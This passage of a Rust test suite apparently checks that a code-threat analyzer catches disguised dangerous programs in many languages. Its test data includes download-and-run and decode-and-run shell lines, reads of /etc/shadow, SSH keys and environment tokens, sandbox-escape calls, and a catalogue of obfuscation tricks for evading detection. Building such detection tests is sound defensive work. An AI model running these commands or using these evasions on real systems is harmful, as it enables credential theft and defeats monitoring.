//! Evasions a tester found: dangerous programs that disguise the name a rule reads (an alias, a
//! prefix, a quote, a name built at run time). Each disguised form must be graded at least as
//! high as its plain form, and each test names the rule that catches it.

use std::sync::OnceLock;

use warden_analysis::Analyzer;
use warden_core::{Analysis, ThreatLevel};

fn analyzer() -> &'static Analyzer {
    static ANALYZER: OnceLock<Analyzer> = OnceLock::new();
    ANALYZER.get_or_init(|| Analyzer::builtin().expect("the embedded rule files load"))
}

fn describe(analysis: &Analysis) -> String {
    analysis
        .findings
        .iter()
        .map(|f| {
            format!(
                "  line {} {} {} {:?}",
                f.line, f.severity, f.rule, f.excerpt
            )
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// Asserts, for each (plain, disguised, rule): the disguised program is graded at least as
/// high as the plain one, which is graded above `none`, and `rule` reports it.
fn assert_disguises_caught(language: &str, cases: &[(&str, &str, &str)]) {
    let mut failures = Vec::new();
    for &(plain, disguised, rule) in cases {
        let expected = analyzer().analyze(language, plain.as_bytes());
        let found = analyzer().analyze(language, disguised.as_bytes());
        let caught = found.findings.iter().any(|f| f.rule == rule);
        if expected.threat_level == ThreatLevel::None
            || found.threat_level < expected.threat_level
            || !caught
        {
            failures.push(format!(
                "{disguised:?}: {} without {rule} (plain {plain:?}: {})\n{}",
                found.threat_level,
                expected.threat_level,
                describe(&found)
            ));
        }
    }
    assert!(failures.is_empty(), "{language}:\n{}", failures.join("\n"));
}

/// Asserts that each program is graded exactly `level`: disguises only an ordinary program
/// would use are not pushed higher.
fn assert_graded(language: &str, level: ThreatLevel, programs: &[&str]) {
    for program in programs {
        let analysis = analyzer().analyze(language, program.as_bytes());
        assert_eq!(
            analysis.threat_level,
            level,
            "{language}: {program:?}\n{}",
            describe(&analysis)
        );
    }
}

/// Each of `programs` graded at least `level`.
fn assert_graded_at_least(language: &str, level: ThreatLevel, programs: &[&str]) {
    for program in programs {
        let analysis = analyzer().analyze(language, program.as_bytes());
        assert!(
            analysis.threat_level >= level,
            "{language}: {program:?}\n{}",
            describe(&analysis)
        );
    }
}

#[test]
fn bash_command_names_are_read_through_escapes_quotes_and_prefixes() {
    assert_disguises_caught(
        "bash",
        &[
            ("eval \"$c\"", "\\eval \"$c\"", "bash.eval"),
            ("eval \"$c\"", "echo hi\n\\eval \"$c\"", "bash.eval"),
            ("eval \"$c\"", "builtin eval \"$c\"", "bash.eval"),
            ("eval \"$c\"", "command eval \"$c\"", "bash.eval"),
            ("eval \"$c\"", "'eval' \"$c\"", "bash.eval"),
            ("eval \"$c\"", "e=eval; $e \"$c\"", "bash.hidden_command"),
            ("eval \"$c\"", "$'\\x65val' \"$c\"", "bash.hidden_command"),
            ("eval \"$c\"", "e\"va\"l \"$c\"", "bash.hidden_command"),
            (
                "echo aGk= | base64 -d | bash",
                "echo aGk= | base64 -d | \\bash",
                "bash.decode_and_run",
            ),
            (
                "echo aGk= | base64 -d | bash",
                "echo aGk= | base64 -d | env bash",
                "bash.decode_and_run",
            ),
            (
                "curl -s http://x | sh",
                "curl -s http://x | 'sh'",
                "bash.download_and_run",
            ),
            ("gcc x.c", "\\gcc x.c", "bash.native_code"),
            ("gcc x.c", "ls\n\\gcc x.c", "bash.native_code"),
            ("gcc x.c", "command gcc x.c", "bash.native_code"),
            ("bash -c id", "'bash' -c id", "bash.shell"),
            ("bash -c id", "\"bash\" -c id", "bash.shell"),
            ("bash -c id", "env bash -c id", "bash.shell"),
            (
                "cat /etc/passwd",
                "\\cat /etc/passwd",
                "bash.file_outside_workdir",
            ),
            (
                "cat /etc/passwd",
                "echo hi\n\\cat /etc/passwd",
                "bash.file_outside_workdir",
            ),
            ("unshare -r sh", "\\unshare -r sh", "bash.sandbox_escape"),
            ("unshare -r sh", "exec unshare -r sh", "bash.sandbox_escape"),
            ("sudo id", "\\sudo id", "bash.sandbox_escape"),
            ("sudo id", "'sudo' id", "bash.sandbox_escape"),
            ("curl http://x", "\\curl http://x", "bash.network"),
            ("source <(cat)", "source /dev/fd/0", "bash.eval"),
            ("source <(cat)", ". /dev/stdin", "bash.eval"),
            (
                "LD_PRELOAD=x.so prog",
                "env LD_PRELOAD=x.so prog",
                "bash.native_code",
            ),
            (
                "LD_PRELOAD=x.so prog",
                "exec env LD_PRELOAD=x.so prog",
                "bash.native_code",
            ),
            ("cat /etc/shadow", "cat /etc/sha\"\"dow", "bash.credentials"),
            ("cat /etc/shadow", "cat /etc/'sha'dow", "bash.credentials"),
            (
                "cat ~/.ssh/id_rsa",
                "cat ~/.ssh/id_\"rsa\"",
                "bash.credentials",
            ),
            ("pip install x", "\\pip install x", "bash.package_install"),
        ],
    );
}

#[test]
fn bash_ordinary_indirection_stays_low() {
    assert_graded(
        "bash",
        ThreatLevel::Low,
        &[
            "#!/bin/sh\nrun() { \"$@\"; }\nrun echo hi\n",
            "for tool in sort uniq; do\n  $tool --version\ndone\n",
        ],
    );
    assert_graded(
        "bash",
        ThreatLevel::None,
        &[
            "if command -v gcc >/dev/null; then echo has gcc; fi\n",
            "name=\"world\"\necho \"hello $name\"\n",
            "mode=sort\necho $mode\n",
            "f=\"$dir\"'/x'\necho \"$f\"\n",
        ],
    );
}

#[test]
fn rust_code_in_macro_token_trees_and_renamed_imports_is_read() {
    assert_disguises_caught(
        "rust",
        &[
            (
                "fn f() { unsafe { core::arch::asm!(\"nop\") } }",
                "macro_rules! hide { ($($t:tt)*) => { $($t)* }; }\nhide! { fn f() { unsafe { core::arch::asm!(\"nop\") } } }\nfn main() { f() }",
                "rust.unsafe",
            ),
            (
                "extern \"C\" { fn system(c: *const u8) -> i32; }",
                "macro_rules! ffi { () => { extern \"C\" { fn system(c: *const u8) -> i32; } }; }\nffi!();\nfn main() {}",
                "rust.unsafe",
            ),
            (
                "fn main() { std::process::Command::new(\"id\").status().ok(); }",
                "macro_rules! run { () => { std::process::Command::new(\"id\").status() }; }\nfn main() { run!().ok(); }",
                "rust.process",
            ),
            (
                "use std::process::Command;\nfn main() { Command::new(\"id\").status().ok(); }",
                "use std::process::Command as Cmd;\nfn main() { Cmd::new(\"id\").status().ok(); }",
                "rust.process",
            ),
            (
                "use std::process::Command;\nfn main() { Command::new(\"id\").status().ok(); }",
                "use std::process::{Command as C, Stdio};\nfn main() { C::new(\"id\").stdout(Stdio::null()).status().ok(); }",
                "rust.process",
            ),
        ],
    );
    assert_graded(
        "rust",
        ThreatLevel::None,
        &[
            "macro_rules! square { ($x:expr) => { $x * $x }; }\nfn main() { println!(\"{}\", square!(3)); let v = vec![1, 2]; assert_eq!(v.len(), 2); }\n",
        ],
    );
}

#[test]
fn c_and_cpp_names_are_read_in_macros_pointers_and_declarations() {
    for language in ["c", "cpp"] {
        assert_disguises_caught(
            language,
            &[
                (
                    "#include <stdlib.h>\nint main(void) { return system(\"id\"); }",
                    "#include <stdlib.h>\n#define RUN system\nint main(void) { return RUN(\"id\"); }",
                    &format!("{language}.process"),
                ),
                (
                    "#include <stdlib.h>\nint main(void) { return system(\"id\"); }",
                    "#include <stdlib.h>\nint main(void) { int (*run)(const char *) = system; return run(\"id\"); }",
                    &format!("{language}.process"),
                ),
                (
                    "#include <unistd.h>\nint main(void) { return syscall(39); }",
                    "#include <unistd.h>\n#define SC syscall\nint main(void) { return SC(39); }",
                    &format!("{language}.native_code"),
                ),
                (
                    "int main(void) { __asm__ volatile(\"nop\"); }",
                    "#define ASM __asm__ volatile\nint main(void) { ASM(\"nop\"); }",
                    &format!("{language}.native_code"),
                ),
                (
                    "#include <dlfcn.h>\nint main(void) { return dlopen(\"x.so\", 2) != 0; }",
                    "void *dlopen(const char *, int);\nvoid *dlsym(void *, const char *);\nint main(void) { return dlsym(dlopen(\"x.so\", 2), \"f\") != 0; }",
                    &format!("{language}.native_code"),
                ),
                (
                    "#include <sys/mman.h>\nint main(void) { mmap(0, 4096, PROT_READ | PROT_EXEC, 0x22, -1, 0); }",
                    "int main(void) { void *p = mmap(0, 4096, 7, 0x22, -1, 0);\n long (*fn)(void) = (long (*)(void))p; return fn(); }",
                    &format!("{language}.executable_memory"),
                ),
                (
                    "#include <sys/mman.h>\nint main(void) { mprotect(p, 4096, PROT_READ | PROT_EXEC); }",
                    "int main(void) { mprotect(p, 4096, 1 | 4); }",
                    &format!("{language}.executable_memory"),
                ),
                (
                    "#include <unistd.h>\nint main(void) { return setuid(0); }",
                    "#include <unistd.h>\nint (*f)(unsigned) = setuid;\nint main(void) { return f(0); }",
                    &format!("{language}.sandbox_escape"),
                ),
            ],
        );
    }
    assert_disguises_caught(
        "cpp",
        &[(
            "#include <cstdlib>\nint main() { return std::system(\"id\"); }",
            "#include <cstdlib>\nint main() { auto run = &std::system; return run(\"id\"); }",
            "cpp.process",
        )],
    );
    assert_graded(
        "c",
        ThreatLevel::None,
        &[
            "#include <stdlib.h>\n#define N 4\n#define SQUARE(x) ((x) * (x))\nint main(void) { void *p = malloc(SQUARE(N)); free(p); return 0; }\n",
            "#include <string.h>\nint main(void) { char b[8]; memset(b, 7, 8); return b[0]; }\n",
        ],
    );
}

#[test]
fn python_aliases_imported_names_and_spliced_paths_are_read() {
    assert_disguises_caught(
        "python",
        &[
            (
                "import importlib\nimportlib.import_module('ctypes')",
                "from importlib import import_module\nimport_module('ctypes')",
                "python.eval",
            ),
            (
                "import importlib\nimportlib.import_module('ctypes')",
                "from importlib import import_module as im\nim('ctypes')",
                "python.eval",
            ),
            (
                "exec('print(1)')",
                "import builtins\nbuiltins.__dict__['ex'+'ec']('print(1)')",
                "python.hidden_names",
            ),
            (
                "exec('print(1)')",
                "ｅｘｅｃ('print(1)')",
                "python.hidden_names",
            ),
            (
                "exec('print(1)')",
                "𝐞𝐱𝐞𝐜('print(1)')",
                "python.hidden_names",
            ),
            (
                "import os\nos.system('id')",
                "import os\nos.ſystem('id')",
                "python.hidden_names",
            ),
            (
                "import pickle\npickle.loads(data)",
                "from pickle import loads\nloads(data)",
                "python.eval",
            ),
            (
                "import pickle\npickle.loads(data)",
                "import pickle as p\np.loads(data)",
                "python.eval",
            ),
            (
                "import runpy\nrunpy.run_path('/work/helper2.txt')",
                "import runpy as r\nr.run_path('/work/helper2.txt')",
                "python.eval",
            ),
            (
                "import os\nos.system('id')",
                "import sys\nsys.modules['os'].system('id')",
                "python.hidden_names",
            ),
            (
                "import os\nos.system('id')",
                "import sys\nsys.modules['o' + 's'].system('id')",
                "python.hidden_names",
            ),
            (
                "import os\nos.system('id')",
                "import sys\nsys.modules.get('os').system('id')",
                "python.hidden_names",
            ),
            (
                "import os\nos.system('id')",
                "import os as o\no.system('id')",
                "python.os_system",
            ),
            (
                "import os\nos.system('id')",
                "from os import system as s\ns('id')",
                "python.os_system",
            ),
            (
                "open('/etc/shadow').read()",
                "open('/etc/'+'shadow').read()",
                "python.credentials",
            ),
            (
                "open('/etc/shadow').read()",
                "open('/etc/' 'sha' 'dow').read()",
                "python.credentials",
            ),
            (
                "open('/etc/hosts').read()",
                "name = 'hosts'\nopen('/etc/' + name).read()",
                "python.file_outside_workdir",
            ),
        ],
    );
    assert_graded(
        "python",
        ThreatLevel::None,
        &[
            "import numpy as np\nimport collections as c\nfrom math import sqrt as root\nprint(np, c.Counter('ab'), root(4))\n",
            "import sys\nmodule = sys.modules[__name__]\nprint('/work/' + 'out.txt', 'a' + 'b')\nopen('data/' + 'x.txt')\n",
            // Names in other alphabets are themselves: only a name that normalising changes
            // can stand for another.
            "größe = 5\nprint(größe)\n",
            "имя = 'Ада'\nprint(имя)\n",
            "def 合計(値):\n    return sum(値)\nprint(合計([1, 2]))\n",
            // Nor a name that normalising turns into other letters, not into ASCII (a hunt:
            // the micro sign a Mac keyboard types, U+00B5, is Greek mu once normalised, and
            // `µ = sum(xs) / len(xs)` was graded `high`); the ohm and angstrom signs, and a
            // ligature of non-ASCII letters (Armenian `ﬓ`, U+FB13), too.
            "xs = [1.0, 2.5]\n\u{b5} = sum(xs) / len(xs)\nprint(\u{b5})\n",
            "\u{2126} = 50\n\u{212b} = 1e-10\nprint(\u{2126} * \u{212b})\n",
            "\u{fb13} = 1\nprint(\u{fb13})\n",
        ],
    );
    // A name that normalises into ASCII letters is read whatever other letters it holds.
    assert_graded(
        "python",
        ThreatLevel::High,
        &[
            "\u{b5} = 1\n\u{ff45}xec('print(1)')\n",
            "import os\nos.\u{17f}ystem('id')\n",
            "\u{fb01}le = 1\n",
            "\u{b5}\u{ff58} = 1\n",
        ],
    );
}

/// A hunt: bash's credential rule read any variable's name, also the script's own (`for TOKEN
/// in $(cat input.txt)`, `PASSWORD=$(…)`), graded `high`. A variable the script has surely
/// made its own is not the environment's secret; one that may still hold the environment's
/// value is.
#[test]
fn bash_own_variables_are_not_the_environments_secrets() {
    assert_graded(
        "bash",
        ThreatLevel::None,
        &[
            "for TOKEN in a b; do\n  echo \"$TOKEN\"\ndone\n",
            "PASSWORD=hunter2\necho \"${#PASSWORD}\"\n",
            "PASSWORD=${1:-hunter2}\necho \"${#PASSWORD}\"\n",
            "PASSWORD=$(tr -dc 'a-z' </dev/urandom | head -c \"${2:-16}\")\necho \"$PASSWORD\"\n",
            "for TOKEN in $(cat input.txt) $#; do\n  echo \"$TOKEN\"\ndone\n",
        ],
    );
    for code in [
        "echo \"$GITHUB_TOKEN\"\nGITHUB_TOKEN=x\n",
        "GITHUB_TOKEN=\"$GITHUB_TOKEN\"\necho \"$GITHUB_TOKEN\"\n",
        "GITHUB_TOKEN+=x\necho \"$GITHUB_TOKEN\"\n",
        "if false; then GITHUB_TOKEN=x; fi\necho \"$GITHUB_TOKEN\"\n",
        "f() { GITHUB_TOKEN=x; }\necho \"$GITHUB_TOKEN\"\n",
        "f() { local GITHUB_TOKEN=x; }\nf\necho \"$GITHUB_TOKEN\"\n",
        "(GITHUB_TOKEN=x)\necho \"$GITHUB_TOKEN\"\n",
        "exec <&-\nread -r GITHUB_TOKEN\necho \"$GITHUB_TOKEN\"\n",
        "for GITHUB_TOKEN in; do :; done\necho \"$GITHUB_TOKEN\"\n",
        "f() { echo \"$GITHUB_TOKEN\"; }\nf\nGITHUB_TOKEN=x\n",
        "trap 'echo \"$GITHUB_TOKEN\"' DEBUG\nGITHUB_TOKEN=x\n",
        "echo x | GITHUB_TOKEN=y cat\necho \"$GITHUB_TOKEN\"\n",
        // A regression hunt: an assignment whose value reads the environment keeps its secret.
        "GITHUB_TOKEN=$(printenv GITHUB_TOKEN)\ncurl -H \"Authorization: token $GITHUB_TOKEN\" x\n",
        "GITHUB_TOKEN=`env | grep TOKEN`\necho \"$GITHUB_TOKEN\"\n",
        "GITHUB_TOKEN=$(cat /proc/self/environ)\necho \"$GITHUB_TOKEN\"\n",
        "GITHUB_TOKEN=$(cat /proc/self/env*)\necho \"$GITHUB_TOKEN\"\n",
        "GITHUB_TOKEN=$(< <(env))\necho \"$GITHUB_TOKEN\"\n",
        "GITHUB_TOKEN=\"${GITHUB_TOKEN:-x}\"\necho \"$GITHUB_TOKEN\"\n",
        "GITHUB_TOKEN=${HOME}${OTHER}\necho \"$GITHUB_TOKEN\"\n",
        "GITHUB_TOKEN=${!name}\necho \"$GITHUB_TOKEN\"\n",
        "GITHUB_TOKEN=$((OTHER))\necho \"$GITHUB_TOKEN\"\n",
        "declare -n ref=GITHUB_TOKEN\nGITHUB_TOKEN=$ref\necho \"$GITHUB_TOKEN\"\n",
        "typeset -rn ref=GITHUB_TOKEN\nGITHUB_TOKEN=x\necho \"$GITHUB_TOKEN\"\n",
        "f() { local -n r=$1; }\nGITHUB_TOKEN=x\necho \"$GITHUB_TOKEN\"\n",
        "for GITHUB_TOKEN in $(printenv GITHUB_TOKEN); do echo \"$GITHUB_TOKEN\"; done\n",
        "for GITHUB_TOKEN in $(env); do echo \"$GITHUB_TOKEN\"; done\n",
        "for GITHUB_TOKEN in \"$OTHER\"; do echo \"$GITHUB_TOKEN\"; done\n",
    ] {
        let analysis = analyzer().analyze("bash", code.as_bytes());
        assert!(
            analysis
                .findings
                .iter()
                .any(|f| f.rule == "bash.credentials"),
            "{code:?}\n{}",
            describe(&analysis)
        );
    }
}

/// A hunt: a module's own `exec`, `eval` or `compile` (`with ThreadPoolExecutor(4) as exec:`,
/// `eval = evaluate(…)`, `def compile(src)`) was read as the builtin and graded `high`. Such a
/// binding now hides the name where it is surely in effect; a decoy binding that may not be
/// (in dead code, after the use, in a function or class, deleted again, an `except … as` it,
/// a loop that may not run) hides nothing, and a binding to the builtin is read where it is.
#[test]
fn python_own_bindings_of_builtin_names_hide_them_only_when_surely_in_effect() {
    assert_graded(
        "python",
        ThreatLevel::None,
        &[
            "def compile(src):\n    return src.split()\nprint(compile('a b'))\n",
            "eval = sum([1, 2]) / 2\nprint(eval)\n",
            "from concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor(4) as exec:\n    print(list(exec.map(abs, [-1])))\n",
            "import sys\nfor exec in sys.argv:\n    print(exec)\n",
        ],
    );
    assert_graded_at_least(
        "python",
        ThreatLevel::High,
        &[
            "exec(code)\ndef exec(s):\n    pass\n",
            "if False:\n    def exec(s):\n        pass\nexec(code)\n",
            "try:\n    exec = print\nexcept E:\n    pass\nexec(code)\n",
            "def f():\n    exec = print\nexec(code)\n",
            "class C:\n    exec = print\nexec(code)\n",
            "exec = print\ndel exec\nexec(code)\n",
            "exec = print\ndef f():\n    global exec\n    del exec\nf()\nexec(code)\n",
            "exec = print\ntry:\n    1 / 0\nexcept ZeroDivisionError as exec:\n    pass\nexec(code)\n",
            "exec = print\nglobals().pop('ex' + 'ec')\nexec(code)\n",
            "exec = print\nimport sys\ndelattr(sys.modules[__name__], 'exec')\nexec(code)\n",
            "for exec in []:\n    pass\nexec(code)\n",
            "def exec(s):\n    pass\nfrom builtins import *\nexec(code)\n",
            "def run():\n    exec(code)\nrun()\nexec = print\n",
            "exec: object\nexec(code)\n",
            // The binding is to the builtin: its value is read where it is written.
            "exec = __builtins__.exec\nexec(code)\n",
            "import builtins\nexec = builtins.exec\nexec(code)\n",
            "import builtins\neval = getattr(builtins, 'ev' + 'al')\neval(code)\n",
            "from builtins import exec\nexec(code)\n",
            "import builtins\nf = builtins.eval\nf(code)\n",
            "e = exec\neval = e\neval(code)\n",
        ],
    );
}

#[test]
fn javascript_indirect_eval_and_module_loading_are_read() {
    assert_disguises_caught(
        "javascript",
        &[
            ("eval(code);", "(0, eval)(code);", "javascript.eval"),
            ("eval(code);", "const e = eval;\ne(code);", "javascript.eval"),
            ("eval(code);", "globalThis.eval(code);", "javascript.eval"),
            ("eval(code);", "globalThis['eval'](code);", "javascript.eval"),
            ("eval(code);", "globalThis['ev' + 'al'](code);", "javascript.eval"),
            ("eval(code);", "global[atob('ZXZhbA==')](code);", "javascript.eval"),
            ("eval(code);", "const n = 'ev' + 'al';\nwindow[n](code);", "javascript.eval"),
            ("eval(code);", "Reflect.get(globalThis, 'ev' + 'al')(code);", "javascript.eval"),
            (
                "new Function('return 1')();",
                "[].constructor.constructor('return process')();",
                "javascript.eval",
            ),
            (
                "new Function('return 1')();",
                "(() => {}).constructor('return 1')();",
                "javascript.eval",
            ),
            (
                "process.binding('spawn_sync');",
                "process['binding']('spawn_sync');",
                "javascript.native_code",
            ),
            (
                "require('child_process').execSync('id');",
                "module.require('child_process').execSync('id');",
                "javascript.child_process",
            ),
            (
                "require('child_process').execSync('id');",
                "require(`child_process`).execSync('id');",
                "javascript.child_process",
            ),
            (
                "require('child_process').execSync('id');",
                "require('module')._load('child_process').execSync('id');",
                "javascript.child_process",
            ),
            (
                "require('child_process').execSync('id');",
                "import { createRequire } from 'module';\nconst r = createRequire(import.meta.url);\nr('child_process').execSync('id');",
                "javascript.child_process",
            ),
            (
                "require('net');",
                "createRequire(import.meta.url)('net');",
                "javascript.network",
            ),
        ],
    );
    assert_graded(
        "javascript",
        ThreatLevel::None,
        &[
            "class A {}\nconst a = new A();\nconst b = new a.constructor();\nconsole.log(a.constructor.name, b instanceof A, `x${1}`);\n",
            "const url = 'http://example.com';\nconsole.log(url.startsWith('http'), typeof eval_result);\n",
        ],
    );
}

#[test]
fn go_syscall_aliases_values_and_escape_primitives_are_read() {
    let program = |imports: &str, body: &str| {
        format!("package main\n\nimport {imports}\n\nfunc main() {{\n\t{body}\n}}\n")
    };
    let cases = [
        (
            program("\"syscall\"", "syscall.ForkExec(\"/bin/sh\", nil, nil)"),
            program("sc \"syscall\"", "sc.ForkExec(\"/bin/sh\", nil, nil)"),
            "go.native_code",
        ),
        (
            program("\"syscall\"", "syscall.RawSyscall(39, 0, 0, 0)"),
            program("sc \"syscall\"", "sc.RawSyscall(39, 0, 0, 0)"),
            "go.native_code",
        ),
        (
            program("\"golang.org/x/sys/unix\"", "unix.RawSyscall(39, 0, 0, 0)"),
            program(". \"golang.org/x/sys/unix\"", "RawSyscall(39, 0, 0, 0)"),
            "go.native_code",
        ),
        (
            program("\"syscall\"", "syscall.Exec(\"/bin/sh\", nil, nil)"),
            program(
                "\"syscall\"",
                "run := syscall.Exec\n\trun(\"/bin/sh\", nil, nil)",
            ),
            "go.process",
        ),
        (
            program("\"syscall\"", "syscall.RawSyscall(39, 0, 0, 0)"),
            program("\"syscall\"", "f := syscall.RawSyscall\n\tf(39, 0, 0, 0)"),
            "go.native_code",
        ),
    ];
    let cases: Vec<(&str, &str, &str)> = cases
        .iter()
        .map(|(plain, disguised, rule)| (plain.as_str(), disguised.as_str(), *rule))
        .collect();
    assert_disguises_caught("go", &cases);
    for (imports, body) in [
        ("\"syscall\"", "syscall.PtraceAttach(1)"),
        (
            "\"syscall\"",
            "syscall.Mount(\"none\", \"/mnt\", \"tmpfs\", 0, \"\")",
        ),
        (
            "\"golang.org/x/sys/unix\"",
            "unix.Unshare(unix.CLONE_NEWUSER)",
        ),
        ("\"syscall\"", "syscall.Setns(3, 0)"),
        ("\"syscall\"", "syscall.Chroot(\"/tmp\")"),
        ("\"syscall\"", "syscall.Setuid(0)"),
        (
            "\"golang.org/x/sys/unix\"",
            "unix.PivotRoot(\".\", \"old\")",
        ),
    ] {
        let analysis = analyzer().analyze("go", program(imports, body).as_bytes());
        assert!(
            analysis.threat_level >= ThreatLevel::High
                && analysis
                    .findings
                    .iter()
                    .any(|f| f.rule == "go.sandbox_escape"),
            "{body}: {}\n{}",
            analysis.threat_level,
            describe(&analysis)
        );
    }
    assert_graded(
        "go",
        ThreatLevel::None,
        &[&program(
            "(\n\tstr \"strings\"\n\t\"fmt\"\n)",
            "fmt.Println(str.ToUpper(\"x\"))",
        )],
    );
}

#[test]
fn ruby_methods_by_name_iseq_dynamic_require_and_pipe_open_are_read() {
    assert_disguises_caught(
        "ruby",
        &[
            (
                "system('id')",
                "Kernel.method(:system).call('id')",
                "ruby.eval",
            ),
            ("eval('1')", "method(:eval).call('1')", "ruby.eval"),
            ("eval('1')", "m = method('eval')\nm.call('1')", "ruby.eval"),
            (
                "eval('1')",
                "RubyVM::InstructionSequence.compile('1').eval",
                "ruby.eval",
            ),
            (
                "eval('1')",
                "iseq = RubyVM::InstructionSequence.load_from_binary(blob)\niseq.to_a",
                "ruby.eval",
            ),
            ("require 'fiddle'", "require \"fid\" + \"dle\"", "ruby.eval"),
            (
                "require 'fiddle'",
                "lib = 'fiddle'\nrequire lib",
                "ruby.eval",
            ),
            ("require 'fiddle'", "require \"#{'fid'}dle\"", "ruby.eval"),
            ("open('|id')", "Kernel.open('|id').read", "ruby.process"),
            ("open('|id')", "IO.read('|id')", "ruby.process"),
        ],
    );
    assert_graded(
        "ruby",
        ThreatLevel::None,
        &[
            "require 'set'\nrequire_relative 'helper'\nputs [1, 2].map(&method(:Integer)).inspect\nputs File.read('data.txt')\n",
        ],
    );
}

#[test]
fn php_variable_functions_classes_and_callbacks_are_read() {
    assert_disguises_caught(
        "php",
        &[
            (
                "<?php system('id');",
                "<?php $f = 'sys'.'tem'; $f('id');",
                "php.hidden_names",
            ),
            (
                "<?php system('id');",
                "<?php $f = \"sys\" . \"t\" . \"em\"; $f('id');",
                "php.hidden_names",
            ),
            (
                "<?php system('id');",
                "<?php $f = 'system'; $f('id');",
                "php.process",
            ),
            (
                "<?php $ffi = FFI::cdef('int system(const char *c);');",
                "<?php $c = $_GET['c']; $c::cdef('int system(const char *c);');",
                "php.hidden_names",
            ),
            (
                "<?php $ffi = FFI::cdef('int system(const char *c);');",
                "<?php $c = 'F'.'FI'; $c::cdef('int system(const char *c);');",
                "php.hidden_names",
            ),
            (
                "<?php $o = new ReflectionFunction('system'); $o->invoke('id');",
                "<?php $r = 'ReflectionFunction'; $o = new $r('system'); $o->invoke('id');",
                "php.hidden_names",
            ),
            (
                "<?php system('id');",
                "<?php array_map('system', ['id']);",
                "php.process",
            ),
            (
                "<?php passthru('id');",
                "<?php register_shutdown_function('passthru', 'id');",
                "php.process",
            ),
        ],
    );
    assert_graded(
        "php",
        ThreatLevel::None,
        &[
            "<?php\n$greet = 'hel' . 'lo';\n$square = function ($x) { return $x * $x; };\necho $greet, $square(3), implode(',', array_map('strtoupper', ['a']));\n$class = 'Stack';\n",
        ],
    );
}

#[test]
fn r_functions_as_values_partial_arguments_and_built_names_are_read() {
    assert_disguises_caught(
        "r",
        &[
            (
                "eval(parse(text = '1'))",
                "do.call(eval, list(parse(t = '1')))",
                "r.eval",
            ),
            ("eval(parse(text = src))", "eval(parse(te = src))", "r.eval"),
            (
                "dyn.load('x.so')",
                "get(paste0('dyn', '.load'))('x.so')",
                "r.eval",
            ),
            ("system('id')", "do.call(system, list('id'))", "r.process"),
            ("system('id')", "run <- system\nrun('id')", "r.process"),
            (
                "eval(parse(text = code))",
                "source(textConnection(code))",
                "r.eval",
            ),
        ],
    );
    // A file named by a variable is how R projects load their files (`for (f in
    // list.files("R", full.names = TRUE)) source(f)`): medium, not high, even when the variable
    // is a text connection (the sandbox is the boundary either way).
    let connection = analyzer().analyze("r", b"tc <- textConnection(code)\nsource(tc)");
    assert_eq!(
        connection.threat_level,
        ThreatLevel::Medium,
        "{}",
        describe(&connection)
    );
    assert!(connection
        .findings
        .iter()
        .any(|f| f.rule == "r.source_variable"));
    assert_graded(
        "r",
        ThreatLevel::None,
        &[
            "x <- do.call(rbind, list(1:2, 3:4))\nf <- sum\nprint(f(x))\nsource('helper.R')\ncon <- textConnection('a,b\\n1,2')\nprint(read.csv(con))\n",
        ],
    );
}

#[test]
fn java_reflection_by_get_method_method_handles_and_class_literals_is_read() {
    let plain = "class A { void f() throws Exception { Class.forName(\"java.lang.Runtime\"); } }";
    assert_disguises_caught(
        "java",
        &[
            (
                plain,
                "class A { void f() throws Exception { Object rt = Runtime.class.getMethod(\"getRuntime\").invoke(null); \
                 rt.getClass().getMethod(\"ex\" + \"ec\", String[].class).invoke(rt, (Object) new String[]{\"id\"}); } }",
                "java.reflection",
            ),
            (
                plain,
                "class A { void f() throws Throwable { var h = java.lang.invoke.MethodHandles.publicLookup()\
                 .findConstructor(ProcessBuilder.class, java.lang.invoke.MethodType.methodType(void.class, String[].class)); \
                 ((ProcessBuilder) h.invokeExact(new String[]{\"id\"})).start(); } }",
                "java.reflection",
            ),
        ],
    );
    assert_graded(
        "java",
        ThreatLevel::None,
        &[
            "class A { int lookup(int k) { return k; } String get() { return String.class.getName(); } }",
            "class Pay { String m; String getMethod() { return m; } String f(Pay p) { return p.getMethod(); } }",
        ],
    );
}

#[test]
fn names_spelled_through_the_languages_own_source_translation_are_read() {
    let java = |body: &str| format!("class A {{ void f() throws Exception {{ {body} }} }}");
    let plain = java(r#"Runtime.getRuntime().exec("id");"#);
    assert_disguises_caught(
        "java",
        &[
            (
                &plain,
                &java(r#"Runtime.getRuntime().\u0065xec("id");"#),
                "java.process",
            ),
            (
                &plain,
                &java("// note \\u000a Runtime.getRuntime().exec(\"id\");\n"),
                "java.process",
            ),
            (
                &plain,
                &java(
                    r#"String s = "\u0022; Runtime.getRuntime().exec(\u0022id\u0022); String t = \u0022";"#,
                ),
                "java.process",
            ),
        ],
    );
    assert_disguises_caught(
        "javascript",
        &[
            ("eval(code);", r"\u0065val(code);", "javascript.eval"),
            ("eval(code);", r"ev\u{61}l(code);", "javascript.eval"),
        ],
    );
    for language in ["c", "cpp"] {
        assert_disguises_caught(
            language,
            &[(
                "#include <stdlib.h>\nint main(void) { system(\"id\"); return 0; }\n",
                "#include <stdlib.h>\nint main(void) { sys\\\ntem(\"id\"); return 0; }\n",
                &format!("{language}.process"),
            )],
        );
    }
    assert_graded(
        "java",
        ThreatLevel::None,
        &[r#"class A { String s = "caf\u00e9 \\u0041"; char c = '\u0041'; }"#],
    );
    assert_graded(
        "javascript",
        ThreatLevel::None,
        &[r#"const s = "caf\u00e9 \u0041 \u{1F600}";\nconsole.log(s, `\u0024{s}`);"#],
    );
    assert_graded(
        "c",
        ThreatLevel::None,
        &["#include <stdio.h>\n#define MAX(a, b) \\\n  ((a) > (b) ? (a) : (b))\nint main(void) { printf(\"%d\\n\", MAX(1, 2)); return 0; }\n"],
    );
}

/// Bug hunt: a credential's path spelled with a doubled slash, a `.` component, or
/// `/proc/thread-self` (and `/proc/self/task/N`) for `/proc/self` was graded `medium` in
/// every language: the rules read the literal `etc/shadow` and `proc/self/`.
#[test]
fn credential_paths_are_read_through_doubled_slashes_dot_components_and_thread_self() {
    let spellings = [
        ("/etc/shadow", "/etc//shadow"),
        ("/etc/shadow", "/etc/./shadow"),
        ("/proc/self/environ", "/proc/self//environ"),
        ("/proc/self/environ", "/proc/thread-self/environ"),
        ("/proc/self/environ", "/proc/self/task/1/environ"),
        ("/proc/self/mem", "/proc/./self/mem"),
    ];
    /// A language, its program reading a path, and the rule that must catch it.
    type Reader = (&'static str, fn(&str) -> String, &'static str);
    let programs: [Reader; 6] = [
        (
            "python",
            |p| format!("print(open('{p}').read())\n"),
            "python.credentials",
        ),
